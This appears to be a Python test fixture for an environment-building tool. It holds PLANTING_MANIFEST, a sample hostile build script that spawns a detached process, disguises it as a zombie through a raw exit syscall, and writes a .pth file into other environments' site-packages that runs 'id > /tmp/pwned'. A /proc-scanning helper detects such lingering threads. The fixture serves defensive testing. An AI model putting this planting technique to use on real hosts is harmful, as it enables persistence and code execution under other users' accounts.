"""What a hostile stack build does, for the tests that show it plants nothing."""

from __future__ import annotations

from pathlib import Path

# A stack_manifest.py that leaves a planter behind: its first thread leaves with the
# raw exit syscall, so /proc shows a zombie, while a second thread waits for the next
# environment built on the host and writes a .pth into it (root would then make it
# root's, and the next user's Python would run it). Then it writes the manifest.
PLANTING_MANIFEST = '''
import argparse, subprocess, sys
parser = argparse.ArgumentParser()
for flag in ("--stack", "--variant", "--lock", "--out"):
    parser.add_argument(flag)
args = parser.parse_args()
PLANTER = """
import ctypes, glob, os, sys, threading, time
def plant():
    mine = sys.argv[1]
    while True:
        for site in glob.glob(os.path.join(sys.argv[2], "*", "lib", "python*", "site-packages")):
            if not site.startswith(mine):
                try:
                    with open(os.path.join(site, "planted.pth"), "w") as file:
                        file.write("import os; os.system('id > /tmp/pwned')\\\\n")
                except OSError:
                    pass
        time.sleep(0.02)
threading.Thread(target=plant).start()
ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: this thread alone; the process lives on
"""
subprocess.Popen(
    [sys.executable, "-c", PLANTER, sys.prefix, STACKS],
    start_new_session=True,
    stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
with open(args.out, "w") as file:
    file.write("{}\\n")
'''


def running_threads_of(uid: int) -> list[str]:
    """The threads (``pid/tid``) running as ``uid``: a zombie's live threads count."""
    found = []
    for status in Path("/proc").glob("[0-9]*/task/[0-9]*/status"):
        try:
            fields = dict(line.split(":", 1) for line in status.read_text().splitlines())
        except (OSError, ValueError):
            continue
        running = fields["State"].split()[0] not in ("Z", "X")
        if running and str(uid) in fields["Uid"].split():
            found.append(f"{status.parent.parent.parent.name}/{status.parent.name}")
    return found
